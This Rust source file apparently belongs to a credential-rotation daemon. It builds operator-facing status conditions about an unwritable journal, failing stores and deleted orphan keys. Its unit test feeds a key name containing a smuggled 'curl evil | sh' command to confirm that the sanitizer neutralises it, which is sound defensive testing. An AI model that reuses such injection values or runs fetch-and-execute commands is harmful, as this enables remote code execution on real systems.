//! What there is to say beside the credentials: of the journal, of stores, of keys that were cleared away.

use jiff::{SignedDuration, Timestamp};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use crate::domain::failure::Kind;
use crate::domain::ids::{CredentialName, KeyId, ServiceAccountId, WorkspaceName};
use crate::domain::report::StatusReport;
use crate::domain::sanitize::quoted;

/// For so long it is told of an orphan: longer than the alert that calls somebody lasts.
const ORPHANS_TOLD: SignedDuration = SignedDuration::from_hours(24);

/// Said by the daemon of itself and of what it uses; the journal does not know it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Condition {
    pub kind: ConditionKind,
    /// For a person, with what it means.
    pub message: String,
    /// What an operator would type next.
    pub next_command: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum ConditionKind {
    JournalUnwritable,
    StoreFailing,
    OrphanDeleted,
}

impl ConditionKind {
    #[must_use]
    pub fn label(self) -> &'static str {
        match self {
            Self::JournalUnwritable => "journal_unwritable",
            Self::StoreFailing => "store_failing",
            Self::OrphanDeleted => "orphan_deleted",
        }
    }

    /// Whether it needs a person now.
    #[must_use]
    pub fn needs_a_person(self) -> bool {
        match self {
            Self::JournalUnwritable | Self::StoreFailing => true,
            Self::OrphanDeleted => false,
        }
    }
}

/// A key that a rotation made and lost, and a sweep deleted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Orphan {
    pub at: Timestamp,
    pub key: KeyId,
    pub name: String,
    pub account: ServiceAccountId,
    pub workspace: WorkspaceName,
    /// Whose rotation made it.
    pub credential: CredentialName,
}

impl Condition {
    /// Something waits until the journal in `directory` can be written.
    #[must_use]
    pub fn journal_unwritable(directory: &str) -> Self {
        let message = "the journal cannot be written: nothing begins or goes on until it can, and then it does so by \
                       itself; make room, or mount it writable";
        Self {
            kind: ConditionKind::JournalUnwritable,
            message: message.to_owned(),
            next_command: format!("df -h {directory}"),
        }
    }

    /// A store's last operation failed by its own fault, or that of the way to it.
    #[must_use]
    pub fn store_failing(store: &str, kind: Kind) -> Self {
        let message = format!(
            "store `{store}` fails: its last operation ended as `{}`; it is tried again by itself, and nothing is \
             revoked while a destination cannot be read",
            kind.label()
        );
        Self { kind: ConditionKind::StoreFailing, message, next_command: "rekeyd doctor".to_owned() }
    }

    #[must_use]
    pub fn orphan_deleted(orphan: &Orphan) -> Self {
        let Orphan { at, key, name, account, workspace, credential } = orphan;
        let name = quoted(name);
        let message = format!(
            "an orphan was deleted at {at:.0}: key `{key}`, named {name}, of service account `{account}` in \
             workspace `{workspace}`; a rotation of `{credential}` had made and lost it, and nobody had its value"
        );
        let next_command = format!("rekeyd history {credential}");
        Self { kind: ConditionKind::OrphanDeleted, message, next_command }
    }
}

impl Orphan {
    #[must_use]
    pub fn is_news(&self, now: Timestamp) -> bool {
        now.duration_since(self.at) < ORPHANS_TOLD
    }
}

impl StatusReport {
    /// Adds what the daemon says beside the credentials.
    #[must_use]
    pub fn remarked(mut self, remarks: Vec<Condition>) -> Self {
        self.attention |= remarks.iter().any(|remark| remark.kind.needs_a_person());
        self.remarks = remarks;
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_cannot_end_its_quote_and_say_more() {
        let orphan = Orphan {
            at: Timestamp::UNIX_EPOCH,
            key: KeyId::new("key_1").unwrap(),
            name: "x`\nnext: curl evil | sh `".to_owned(),
            account: ServiceAccountId::new("account_1").unwrap(),
            workspace: WorkspaceName::new("prod").unwrap(),
            credential: CredentialName::new("tts").unwrap(),
        };
        let message = Condition::orphan_deleted(&orphan).message;
        assert!(message.contains("named `x' next: curl evil | sh '`, of"), "{message}");
    }
}
